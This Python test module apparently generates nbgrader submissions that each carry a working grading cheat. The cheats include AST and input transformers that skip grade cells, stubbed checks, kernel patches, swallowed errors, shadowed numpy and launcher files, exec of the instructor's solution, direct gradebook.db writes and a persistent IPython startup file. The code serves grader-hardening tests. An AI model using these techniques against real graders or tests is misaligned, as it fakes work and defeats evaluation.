"""Attacks that earn points on stock nbgrader without any work, each as one student's submission.

A cheat hands in problem 3 as it was released, with one more cell or file, or other metadata.
"""

from dataclasses import dataclass

from nbformat.v4 import new_code_cell

from tests.entries import notebook_of
from tests.example_class import hand_in
from tests.notebooks import ROOT, grade_cells, read_notebooks

ASSIGNMENT, PROBLEM = "hw11", "problem3"


@dataclass(frozen=True)
class Cheat:
    """One attack.

    Attributes
    ----------
    cell : str
        Source of a cell at the top of the notebook.
    file, content : str
        Name and text of a file beside it.
    tag : str
        A tag on all grade cells.
    helps : str
        The student who gets the points, where it is another one.
    """

    cell: str = ""
    file: str = ""
    content: str = ""
    tag: str = ""
    helps: str = ""


#: Runs a grade cell as if nothing stood in it.
SKIP = "'pass' if 'grade_cell' in code else code"

CHEATS = {
    "drops-checks-from-the-syntax-tree": Cheat("""
import ast

class Drop(ast.NodeTransformer):
    def visit_FunctionDef(self, node):
        if any(getattr(name, "id", "") == "grade_cell" for name in node.decorator_list):
            return ast.Pass()
        return node

get_ipython().ast_transformers.append(Drop())
"""),
    "rewrites-the-source-of-cells": Cheat("""
def skip(lines):
    return ["pass"] if any("grade_cell" in line for line in lines) else lines

get_ipython().input_transformers_cleanup.append(skip)
"""),
    "replaces-comparisons": Cheat("""
import checks
import numpy as np

np.allclose = lambda *args, **options: True
checks.expect = checks.require = lambda *args, **options: None
checks.call = lambda *args, **options: np.ones(3)
checks.array = checks.number = lambda name, value, *args, **options: np.ones(3)
"""),
    "replaces-the-decorator": Cheat("import checks\nchecks.grade_cell = lambda function: None"),
    "patches-the-kernel": Cheat(f"""
kernel = get_ipython().kernel
original = kernel.do_execute

def do_execute(code, *args, **options):
    return original({SKIP}, *args, **options)

kernel.do_execute = do_execute
"""),
    "swallows-errors": Cheat("""
get_ipython().showtraceback = lambda *args, **options: None
import types
kernel = get_ipython().kernel
send = kernel.session.send
def quiet(stream, kind, content=None, *args, **options):
    if isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return send(stream, kind, content, *args, **options)
kernel.session.send = quiet
"""),
    "shadows-numpy": Cheat(
        file="numpy.py",
        content="""
import sys, types
here, sys.path[:] = list(sys.path), [place for place in sys.path if "python" in place]
del sys.modules["numpy"]
import numpy
sys.path[:] = here
fake = types.ModuleType("checks")
fake.grade_cell = lambda function: None
sys.modules["checks"] = fake
""",
    ),
    "shadows-the-launcher": Cheat(
        file="ipykernel_launcher.py",
        content=f"""
import sys
sys.path[:] = [place for place in sys.path if "python" in place]
from ipykernel.ipkernel import IPythonKernel
original = IPythonKernel.do_execute

async def do_execute(self, code, *args, **options):
    return await original(self, {SKIP}, *args, **options)

IPythonKernel.do_execute = do_execute
from ipykernel import kernelapp
kernelapp.launch_new_instance()
""",
    ),
    "reads-the-solution": Cheat("""
import glob, json, os
import numpy as np
place = os.getcwd()
while place != "/" and not os.path.isdir(place + "/source"):
    place = os.path.dirname(place)
for path in glob.glob(place + "/source/hw11/problem3*.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if "### BEGIN SOLUTION" in "".join(cell["source"]):
            solution = "".join(cell["source"])
            name = solution.split("def ")[1].split("(")[0]
            exec(solution)
            keep = globals()[name]
            # The stub below defines the name again: the cell is taken out of its way.
            get_ipython().input_transformers_cleanup.append(
                lambda lines, name=name: ["pass"] if f"def {name}(" in "".join(lines) else lines
            )
"""),
    "writes-into-the-gradebook": Cheat("""
import os, sqlite3
place = os.getcwd()
student = place.split("/")[-2]
while place != "/" and not os.path.exists(place + "/gradebook.db"):
    place = os.path.dirname(place)
with sqlite3.connect(place + "/gradebook.db") as gradebook:
    gradebook.execute(
        "UPDATE grade SET manual_score = 5 WHERE notebook_id IN ("
        "  SELECT notebook.id FROM submitted_notebook AS notebook"
        "  JOIN submitted_assignment AS submission ON submission.id = notebook.assignment_id"
        "  WHERE submission.student_id = ?)",
        [student],
    )
"""),
    "skips-grade-cells-by-a-tag": Cheat(tag="skip-execution"),
    # Near the end, because every later student has something from it.
    "y-leaves-a-startup-file": Cheat(
        helps="z-finds-a-startup-file",
        cell="""
import os
folder = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(folder, exist_ok=True)
with open(folder + "/00-help.py", "w") as file:
    file.write('''
def skip(lines):
    return ["pass"] if any("grade_cell" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(skip)
''')
""",
    ),
    "z-finds-a-startup-file": Cheat(),
}


def write_cheats(folder):
    """Hand in cheats, one student each, by the name of the cheat."""
    name = notebook_of(ASSIGNMENT, PROBLEM)
    for student, cheat in CHEATS.items():
        notebook = read_notebooks(ROOT / "release" / ASSIGNMENT)[name]
        if cheat.cell:
            notebook.cells.insert(0, new_code_cell(cheat.cell.strip()))
        for cell in grade_cells(notebook) if cheat.tag else ():
            cell.metadata["tags"] = [cheat.tag]
        place = hand_in(folder, student, ASSIGNMENT, {name: notebook})
        if cheat.file:
            (place / cheat.file).write_text(cheat.content)
